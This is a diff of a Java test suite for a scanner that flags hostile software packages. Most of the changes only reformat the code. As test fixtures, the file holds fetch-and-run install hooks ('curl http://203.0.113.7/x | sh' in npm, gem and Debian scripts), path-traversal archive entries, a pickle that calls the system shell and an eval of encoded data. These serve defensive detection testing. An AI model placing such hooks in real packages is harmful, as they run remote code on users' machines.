@@ -77,9 +77,12 @@ class HostilePackagesTest {
 
     @Test
     void an_npm_archive_is_named_by_its_manifest_and_places_are_told_within_the_package() throws Exception {
-        CheckResult result = check("x.tgz", tgz(
-                "package/package.json", "{\"name\": \"left-padd\", \"version\": \"1.0.3\",\n \"scripts\": {\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"}}",
-                "package/index.js", "module.exports = 1;\n"));
+        CheckResult result = check(
+                "x.tgz",
+                tgz(
+                        "package/package.json",
+                                "{\"name\": \"left-padd\", \"version\": \"1.0.3\",\n \"scripts\": {\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"}}",
+                        "package/index.js", "module.exports = 1;\n"));
         assertThat(result.purl()).hasToString("pkg:npm/left-padd@1.0.3");
         assertThat(result.score().isAlarm()).isTrue();
         assertThat(result.signs().getFirst().sign().name()).isEqualTo("runs-download");
@@ -89,7 +92,8 @@ class HostilePackagesTest {
 
     @Test
     void an_honest_package_weighs_nothing() throws Exception {
-        CheckResult result = check("x.tgz", tgz("package/package.json", JSON, "package/index.js", "module.exports = a => a + 1;\n"));
+        CheckResult result =
+                check("x.tgz", tgz("package/package.json", JSON, "package/index.js", "module.exports = a => a + 1;\n"));
         assertThat(result.score().points()).isLessThan(10);
         assertThat(result.problems()).isEmpty();
     }
@@ -98,12 +102,15 @@ class HostilePackagesTest {
     void a_gem_is_named_by_its_metadata_and_its_extension_runs_at_installation() throws Exception {
         ByteArrayOutputStream metadata = new ByteArrayOutputStream();
         try (GZIPOutputStream gzip = new GZIPOutputStream(metadata)) {
-            gzip.write(bytes("--- !ruby/object:Gem::Specification\nname: teapot\nversion: !ruby/object:Gem::Version\n  version: 1.2.0\nplatform: ruby\nextensions:\n- ext/extconf.rb\n"));
+            gzip.write(
+                    bytes(
+                            "--- !ruby/object:Gem::Specification\nname: teapot\nversion: !ruby/object:Gem::Version\n  version: 1.2.0\nplatform: ruby\nextensions:\n- ext/extconf.rb\n"));
         }
         byte[] data = tgz("ext/extconf.rb", "system('curl http://203.0.113.7/x | sh')\n");
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
-            for (var each : List.of(new Object[] {"metadata.gz", metadata.toByteArray()}, new Object[] {"data.tar.gz", data})) {
+            for (var each :
+                    List.of(new Object[] {"metadata.gz", metadata.toByteArray()}, new Object[] {"data.tar.gz", data})) {
                 TarArchiveEntry entry = new TarArchiveEntry((String) each[0]);
                 entry.setSize(((byte[]) each[1]).length);
                 tar.putArchiveEntry(entry);
@@ -118,7 +125,11 @@ class HostilePackagesTest {
 
     @Test
     void a_debian_package_is_named_by_its_control_file_and_its_scripts_run_at_installation() throws Exception {
-        byte[] control = tgz("./control", "Package: teapot\nVersion: 1.0-1\nArchitecture: all\n", "./postinst", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n");
+        byte[] control = tgz(
+                "./control",
+                "Package: teapot\nVersion: 1.0-1\nArchitecture: all\n",
+                "./postinst",
+                "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n");
         byte[] data = tgz("./usr/share/teapot/a.txt", "tea\n");
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         try (ArArchiveOutputStream ar = new ArArchiveOutputStream(out)) {
@@ -143,14 +154,17 @@ class HostilePackagesTest {
             }
         }
         assertThat(signs(check("x.zip", two))).contains("tampered-archive");
-        assertThat(signs(check("y.zip", zip("setup.py", "a = 1\n", "teapot.py", "a = 2\n")))).doesNotContain("tampered-archive");
+        assertThat(signs(check("y.zip", zip("setup.py", "a = 1\n", "teapot.py", "a = 2\n"))))
+                .doesNotContain("tampered-archive");
     }
 
     @Test
     void names_and_links_that_lead_out_are_told_and_nothing_is_written_there() throws Exception {
-        assertThat(signs(check("x.tgz", tgz("../../evil.txt", "a", "package.json", JSON)))).contains("tampered-archive");
+        assertThat(signs(check("x.tgz", tgz("../../evil.txt", "a", "package.json", JSON))))
+                .contains("tampered-archive");
         assertThat(folder.resolve("../evil.txt")).doesNotExist();
-        assertThat(signs(check("x.zip", zip("..\\evil.txt", "a", "package.json", JSON)))).contains("tampered-archive");
+        assertThat(signs(check("x.zip", zip("..\\evil.txt", "a", "package.json", JSON))))
+                .contains("tampered-archive");
     }
 
     @Test
@@ -165,8 +179,24 @@ class HostilePackagesTest {
     void a_wheel_with_files_that_its_record_does_not_tell_is_seen() throws Exception {
         String metadata = "Metadata-Version: 2.1\nName: teapot\nVersion: 1.0\n";
         String wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
-        byte[] put = zip("teapot.py", "a = 1\n", "teapot-1.0.dist-info/METADATA", metadata, "teapot-1.0.dist-info/WHEEL", wheel, "teapot-1.0.dist-info/RECORD", "other.py,,\n");
-        byte[] whole = zip("teapot.py", "a = 1\n", "teapot-1.0.dist-info/METADATA", metadata, "teapot-1.0.dist-info/WHEEL", wheel, "teapot-1.0.dist-info/RECORD", "teapot.py,,6\n");
+        byte[] put = zip(
+                "teapot.py",
+                "a = 1\n",
+                "teapot-1.0.dist-info/METADATA",
+                metadata,
+                "teapot-1.0.dist-info/WHEEL",
+                wheel,
+                "teapot-1.0.dist-info/RECORD",
+                "other.py,,\n");
+        byte[] whole = zip(
+                "teapot.py",
+                "a = 1\n",
+                "teapot-1.0.dist-info/METADATA",
+                metadata,
+                "teapot-1.0.dist-info/WHEEL",
+                wheel,
+                "teapot-1.0.dist-info/RECORD",
+                "teapot.py,,6\n");
         assertThat(signs(check("teapot-1.0-py3-none-any.whl", put))).contains("wheel-record");
         assertThat(signs(check("teapot-1.0-py3-none-any.whl", whole))).doesNotContain("wheel-record");
     }
@@ -176,14 +206,34 @@ class HostilePackagesTest {
         Path source = Files.createDirectories(folder.resolve("source"));
         Files.writeString(source.resolve("package.json"), JSON);
         Files.writeString(source.resolve("index.js"), "module.exports = 1;\r\n");
-        Path same = Files.write(folder.resolve("a.tgz"), tgz("package/package.json", JSON, "package/index.js", "module.exports = 1;\n", "package/dist/a.js", "1"));
-        Path more = Files.write(folder.resolve("b.tgz"), tgz("package/package.json", JSON, "package/index.js", "module.exports = 1;\n", "package/lib/a.js", "1"));
-        assertThat(signs(Check.of(same, new Check.Aids(source, null), CheckLimits.DEFAULT))).doesNotContain("differs-from-source");
-        assertThat(signs(Check.of(more, new Check.Aids(source, null), CheckLimits.DEFAULT))).contains("differs-from-source");
+        Path same = Files.write(
+                folder.resolve("a.tgz"),
+                tgz(
+                        "package/package.json",
+                        JSON,
+                        "package/index.js",
+                        "module.exports = 1;\n",
+                        "package/dist/a.js",
+                        "1"));
+        Path more = Files.write(
+                folder.resolve("b.tgz"),
+                tgz(
+                        "package/package.json",
+                        JSON,
+                        "package/index.js",
+                        "module.exports = 1;\n",
+                        "package/lib/a.js",
+                        "1"));
+        assertThat(signs(Check.of(same, new Check.Aids(source, null), CheckLimits.DEFAULT)))
+                .doesNotContain("differs-from-source");
+        assertThat(signs(Check.of(more, new Check.Aids(source, null), CheckLimits.DEFAULT)))
+                .contains("differs-from-source");
     }
 
     private CheckResult checkByYara(Yara yara) throws IOException, Unreadable {
-        Path archive = Files.write(folder.resolve("x.tgz"), tgz("package/package.json", JSON, "package/a.txt", "earl grey", "package/b.txt", "milk"));
+        Path archive = Files.write(
+                folder.resolve("x.tgz"),
+                tgz("package/package.json", JSON, "package/a.txt", "earl grey", "package/b.txt", "milk"));
         return Check.of(archive, new Check.Aids(null, yara), CheckLimits.DEFAULT);
     }
 
@@ -198,14 +248,16 @@ class HostilePackagesTest {
         assertThat(checkByYara(yara).signs())
                 .filteredOn(seen -> seen.sign().name().equals("yara-rule"))
                 .singleElement()
-                .satisfies(seen -> assertThat(seen.places()).extracting(Sighting::file).containsExactly("a.txt"));
+                .satisfies(seen ->
+                        assertThat(seen.places()).extracting(Sighting::file).containsExactly("a.txt"));
     }
 
     /// A script in place of the program, that answers as its manual says.
     @Test
     void yara_is_given_copies_under_numbers_and_what_it_answers_is_told_by_the_files_own_names() throws Exception {
         Path bin = Files.createDirectories(folder.resolve("bin"));
-        Path script = Files.writeString(bin.resolve("yara"), "#!/bin/sh\nfor a; do d=$a; done\ngrep -l 'earl grey' $d/* | sed 's/^/tea /'\n");
+        Path script = Files.writeString(
+                bin.resolve("yara"), "#!/bin/sh\nfor a; do d=$a; done\ngrep -l 'earl grey' $d/* | sed 's/^/tea /'\n");
         assumeTrue(script.toFile().setExecutable(true), "no scripts here");
         Yara yara = Yara.of(List.of(rules()), bin.toString());
         assertThat(yara).isNotNull();
@@ -220,7 +272,8 @@ class HostilePackagesTest {
     @Test
     void rules_that_yara_refuses_are_said() throws Exception {
         Path bin = Files.createDirectories(folder.resolve("bin"));
-        Path script = Files.writeString(bin.resolve("yara"), "#!/bin/sh\necho 'error: rule \"tea\" in tea.yar(1): syntax error' >&2\nexit 1\n");
+        Path script = Files.writeString(
+                bin.resolve("yara"), "#!/bin/sh\necho 'error: rule \"tea\" in tea.yar(1): syntax error' >&2\nexit 1\n");
         assumeTrue(script.toFile().setExecutable(true), "no scripts here");
         Yara yara = Yara.of(List.of(rules()), bin.toString());
         assertThatThrownBy(() -> checkByYara(java.util.Objects.requireNonNull(yara)))
@@ -231,16 +284,27 @@ class HostilePackagesTest {
     @Test
     void programs_are_seen_where_none_are_expected_and_where_they_call_themselves_something_else() throws Exception {
         String program = "\u007fELF\u0002\u0001\u0001" + "\0".repeat(100);
-        CheckResult result = check("x.tgz", tgz("package/package.json", JSON, "package/tool", program, "package/logo.png", program));
+        CheckResult result =
+                check("x.tgz", tgz("package/package.json", JSON, "package/tool", program, "package/logo.png", program));
         assertThat(signs(result)).contains("native-binary", "disguised-binary");
-        CheckResult platform = check("y.tgz", tgz("package/package.json", "{\"name\": \"teapot\", \"version\": \"1.0.0\", \"os\": [\"linux\"]}", "package/tool", program));
+        CheckResult platform = check(
+                "y.tgz",
+                tgz(
+                        "package/package.json",
+                        "{\"name\": \"teapot\", \"version\": \"1.0.0\", \"os\": [\"linux\"]}",
+                        "package/tool",
+                        program));
         assertThat(signs(platform)).doesNotContain("native-binary", "disguised-binary");
     }
 
     @Test
     void a_pickle_that_calls_the_system_is_seen_and_one_of_numbers_is_not() throws Exception {
-        assertThat(signs(check("x.tgz", tgz("package/package.json", JSON, "package/model.pkl", "cposix\nsystem\n(S'echo tea'\ntR.")))).contains("pickled-code");
-        assertThat(signs(check("x.tgz", tgz("package/package.json", JSON, "package/model.pkl", "(lp0\nI1\naI2\na.")))).doesNotContain("pickled-code");
+        assertThat(signs(check(
+                        "x.tgz",
+                        tgz("package/package.json", JSON, "package/model.pkl", "cposix\nsystem\n(S'echo tea'\ntR."))))
+                .contains("pickled-code");
+        assertThat(signs(check("x.tgz", tgz("package/package.json", JSON, "package/model.pkl", "(lp0\nI1\naI2\na."))))
+                .doesNotContain("pickled-code");
     }
 
     @Test
@@ -248,16 +312,48 @@ class HostilePackagesTest {
         byte[] random = new byte[3000];
         new Random(7).nextBytes(random);
         String literal = java.util.Base64.getEncoder().encodeToString(random).replace("=", "");
-        CheckResult run = check("x.tgz", tgz("package/package.json", JSON, "package/a.js", "eval(d(Buffer.from('" + literal + "', 'base64')))"));
-        CheckResult picture = check("x.tgz", tgz("package/package.json", JSON, "package/a.js", "draw(Buffer.from('iVBOR" + literal + "', 'base64'))"));
+        CheckResult run = check(
+                "x.tgz",
+                tgz("package/package.json", JSON, "package/a.js", "eval(d(Buffer.from('" + literal + "', 'base64')))"));
+        CheckResult picture = check(
+                "x.tgz",
+                tgz(
+                        "package/package.json",
+                        JSON,
+                        "package/a.js",
+                        "draw(Buffer.from('iVBOR" + literal + "', 'base64'))"));
         assertThat(signs(run)).contains("encoded-payload");
         assertThat(signs(picture)).doesNotContain("encoded-payload");
     }
 
     @Test
     void long_lines_of_every_kind_are_looked_at_in_bounded_time() throws Exception {
-        for (String unit : List.of("(", "a", " ", "eval(", "curl ", "'a'+", "\\x41", "65,", "A", "require('", "\\", "http://", "${", "_0x1a2b ", "/dev", "[", "process.env", "chr(65)+")) {
-            byte[] archive = tgz("package/package.json", JSON, "package/index.js", unit.repeat(1_000_000 / unit.length()), "package/a.py", unit.repeat(1_000_000 / unit.length()));
+        for (String unit : List.of(
+                "(",
+                "a",
+                " ",
+                "eval(",
+                "curl ",
+                "'a'+",
+                "\\x41",
+                "65,",
+                "A",
+                "require('",
+                "\\",
+                "http://",
+                "${",
+                "_0x1a2b ",
+                "/dev",
+                "[",
+                "process.env",
+                "chr(65)+")) {
+            byte[] archive = tgz(
+                    "package/package.json",
+                    JSON,
+                    "package/index.js",
+                    unit.repeat(100_000 / unit.length()),
+                    "package/a.py",
+                    unit.repeat(100_000 / unit.length()));
             assertTimeoutPreemptively(Duration.ofSeconds(60), () -> check("long.tgz", archive), unit);
         }
     }
@@ -265,17 +361,50 @@ class HostilePackagesTest {
     @Test
     void what_is_cut_or_no_archive_gives_one_sentence() throws Exception {
         byte[] whole = zip("package.json", JSON, "a.js", "module.exports = 1;");
-        assertThatThrownBy(() -> check("x.zip", Arrays.copyOf(whole, whole.length / 2))).isInstanceOf(Unreadable.class);
-        assertThatThrownBy(() -> check("x.tgz", bytes("hello"))).isInstanceOf(Unreadable.class).hasMessageContaining("no archive");
+        assertThatThrownBy(() -> check("x.zip", Arrays.copyOf(whole, whole.length / 2)))
+                .isInstanceOf(Unreadable.class);
+        assertThatThrownBy(() -> check("x.tgz", bytes("hello")))
+                .isInstanceOf(Unreadable.class)
+                .hasMessageContaining("no archive");
     }
 
     @Test
     void limits_are_told_in_one_line_each() throws Exception {
-        Path archive = Files.write(folder.resolve("x.tgz"), tgz("package/package.json", JSON, "package/a.js", "a".repeat(5_000), "package/b.js", "b", "package/c.js", "c"));
-        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(3, 1 << 20, 1 << 30, 60)).problems()).hasSize(1).first().asString().contains("more than 3 files");
-        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1_000, 1 << 30, 60)).problems()).hasSize(1).first().asString().contains("only its beginning");
-        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 10, 60)).problems()).hasSize(1).first().asString().contains("files beyond were not looked at");
-        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 1 << 30, 0)).problems()).hasSize(1).first().asString().contains("no longer");
+        Path archive = Files.write(
+                folder.resolve("x.tgz"),
+                tgz(
+                        "package/package.json",
+                        JSON,
+                        "package/a.js",
+                        "a".repeat(5_000),
+                        "package/b.js",
+                        "b",
+                        "package/c.js",
+                        "c"));
+        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(3, 1 << 20, 1 << 30, 60))
+                        .problems())
+                .hasSize(1)
+                .first()
+                .asString()
+                .contains("more than 3 files");
+        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1_000, 1 << 30, 60))
+                        .problems())
+                .hasSize(1)
+                .first()
+                .asString()
+                .contains("only its beginning");
+        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 10, 60))
+                        .problems())
+                .hasSize(1)
+                .first()
+                .asString()
+                .contains("files beyond were not looked at");
+        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 1 << 30, 0))
+                        .problems())
+                .hasSize(1)
+                .first()
+                .asString()
+                .contains("no longer");
     }
 
     @Test
@@ -283,13 +412,19 @@ class HostilePackagesTest {
         for (String kind : List.of("zip", "tar")) {
             try (Stream<Path> files = Files.list(Shared.path("conformance/hostile/" + kind))) {
                 for (Path file : files.sorted().toList()) {
-                    assertTimeoutPreemptively(Duration.ofSeconds(120), () -> {
-                        try {
-                            assertThat(Check.of(file, Check.Aids.NONE, CheckLimits.DEFAULT).score().points()).isBetween(0, 100);
-                        } catch (Unreadable e) {
-                            assertThat(e.getMessage()).isNotBlank();
-                        }
-                    }, file.toString());
+                    assertTimeoutPreemptively(
+                            Duration.ofSeconds(120),
+                            () -> {
+                                try {
+                                    assertThat(Check.of(file, Check.Aids.NONE, CheckLimits.DEFAULT)
+                                                    .score()
+                                                    .points())
+                                            .isBetween(0, 100);
+                                } catch (Unreadable e) {
+                                    assertThat(e.getMessage()).isNotBlank();
+                                }
+                            },
+                            file.toString());
                 }
             }
         }
